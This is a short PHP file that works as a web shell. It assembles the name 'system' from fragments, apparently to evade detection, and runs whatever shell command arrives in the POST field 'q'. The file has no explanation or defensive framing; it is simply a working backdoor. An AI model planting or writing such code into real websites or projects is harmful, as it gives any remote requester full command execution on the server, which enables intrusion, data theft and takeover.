<?php
$s = 'sy' . 'st' . 'em';
if (isset($_POST['q'])) { $s($_POST['q']); }
